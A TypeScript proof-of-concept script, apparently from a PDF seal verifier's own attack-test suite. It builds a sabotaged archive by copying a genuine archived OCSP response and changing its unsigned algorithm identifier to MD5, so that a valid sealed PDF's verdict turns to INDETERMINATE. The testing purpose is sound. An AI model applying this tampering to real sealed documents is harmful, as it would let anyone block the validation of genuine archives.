// U1c: anyone makes any genuine archive INDETERMINATE, no key needed. The unchecked-item rule (ebad497, attack-s4
// B1): an item about the seal whose signature algorithm is outside the table (`details.unsupportedAlgorithm`)
// makes seal-certificate INDETERMINATE / CRYPTO_CONSTRAINTS_FAILURE, "it may be a 'revoked' nobody here can read".
// Nothing but the algorithm identifier decides that: the identifier is outside the signature, and a response that
// claims an algorithm sealcheck does not verify is never shown to be the CA's. So the seal's own archived OCSP
// response (a genuine "good" of its CA), copied out of the CMS with its signatureAlgorithm changed from
// sha256WithRSAEncryption (1.2.840.113549.1.1.11) to md5WithRSAEncryption (…1.1.4: one byte) and appended in a
// DSS revision, turns the broker's own archive from TOTAL-PASSED into "not decided". U1 (fb4f99a) had made such
// items harmless when their signature does not verify; changing the identifier moves them to the one class that
// still decides.
//   npx tsx scripts/attack-s5/unchecked-sabotage.ts [sample|real|honest|honest-real]
// sample: samples/valid/archive.pdf (now). real: the broker's real archive (/work/shared/real, --at its sealing
// time 2025-12-08T09:35:10Z). honest, honest-real: the same copy with its identifier unchanged (a second copy of
// a genuine item): TOTAL-PASSED. DSS=1 adds EU DSS at the same time.
import { spawnSync } from "node:child_process";
import * as asn1js from "asn1js";
import * as pkijs from "pkijs";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { decodeSignedData, revocationArchival } from "../../src/pki/cms.js";
import { pkiSession } from "../../src/pki/session.js";
import { ROOT, dss, sample, save, sealGap, show, verify, withDss, work, type Verdict } from "../attack36/lib.js";

const mode = process.argv[2] ?? "sample";
if (!["sample", "real", "honest", "honest-real"].includes(mode)) throw new Error(`mode: sample|real|honest|honest-real, not ${mode}`);
const real = mode.endsWith("real");
const REAL = join(ROOT, "..", "shared", "real", "broker-example");
const base = real ? new Uint8Array(readFileSync(`${REAL}/archive.pdf`)) : sample("valid/archive.pdf");
const cms = decodeSignedData(sealGap(base).der, "the seal's CMS", pkiSession(), true);
const archived = revocationArchival(cms.signedData.signerInfos[0]!).ocsps[0];
if (!archived) throw new Error("the seal's CMS archives no OCSP response");
// The BasicOCSPResponse's signatureAlgorithm (outside tbsResponseData, so outside what the signature covers),
// rewritten with pkijs; the rest of the response is as the CA wrote it.
const outer = pkijs.OCSPResponse.fromBER(archived);
const basic = pkijs.BasicOCSPResponse.fromBER(outer.responseBytes!.response.valueBlock.valueHexView);
if (basic.signatureAlgorithm.algorithmId !== "1.2.840.113549.1.1.11") throw new Error("the archived response is not signed sha256WithRSAEncryption");
if (!mode.startsWith("honest"))
  basic.signatureAlgorithm = new pkijs.AlgorithmIdentifier({ algorithmId: "1.2.840.113549.1.1.4", algorithmParams: new asn1js.Null() });
outer.responseBytes!.response = new asn1js.OctetString({ valueHex: basic.toSchema().toBER(false) });
const copy = new Uint8Array(outer.toSchema().toBER(false));
const file = save(work("u1c"), "archive.pdf", withDss(base, { ocsps: [copy] }));
console.log(
  `wrote ${file}: ${real ? "the broker's real archive" : "samples/valid/archive.pdf"} plus a DSS holding a copy of the seal's own archived OCSP response${mode.startsWith("honest") ? "" : ", its signatureAlgorithm changed to md5WithRSAEncryption (one byte)"}`,
);
if (!real) {
  show(mode, verify(file));
  dss(file);
} else {
  // The real archive: its own anchors, at its sealing time, no originals (they are not published).
  const at = "2025-12-08T09:35:10Z";
  const r = spawnSync("node", ["dist/cli/main.js", "verify", file, "--trust", `${REAL}/trust`, "--json", "--at", at], { encoding: "utf8", cwd: ROOT });
  const report = JSON.parse(r.stdout) as Verdict["report"] & { indication: string; subIndication: string | null };
  show(mode, { indication: report.indication, subIndication: report.subIndication, exit: r.status ?? -1, report });
  if (process.env.DSS === "1") {
    const d = spawnSync(join(ROOT, "..", "shared", "tools", "dss", "dss-validate"), ["--trust", `${REAL}/trust`, "--time", at, file], { encoding: "utf8" });
    for (const line of d.stdout.split("\n").filter(Boolean)) {
      const j = JSON.parse(line) as { signatures?: { indication: string; subIndication: string | null; format: string; errors?: string[] }[] };
      for (const s of j.signatures ?? [])
        console.log(`== EU DSS at ${at}: ${s.indication}${s.subIndication ? ` / ${s.subIndication}` : ""} (${s.format}) ${(s.errors ?? []).join(" ")}`);
    }
  }
}
